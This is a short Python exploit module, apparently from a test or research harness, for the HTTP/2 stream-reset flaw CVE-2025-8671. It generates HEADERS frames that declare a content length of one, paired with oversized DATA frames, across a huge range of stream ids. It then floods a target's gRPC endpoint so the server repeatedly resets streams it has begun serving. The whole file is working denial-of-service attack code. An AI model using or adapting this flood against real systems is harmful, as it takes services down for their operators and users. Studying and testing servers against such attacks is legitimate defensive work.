"""Requests that an invalid frame ends, so that the service resets streams whose calls it has begun (CVE-2025-8671)."""

from wire import DATA, END_HEADERS, GET, HEADERS, PREFACE, flood_connection, frame, literal, settings


def chunks():
    head = b"\x83" + GET[1:] + literal("content-length", "1")
    for first in range(1, 1 << 30, 1_000):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, 0, stream, b"long")
            for stream in range(first, first + 1_000, 2))  # fmt: skip


def flood(target, until):
    return flood_connection(target.grpc, until, PREFACE + settings(), chunks)
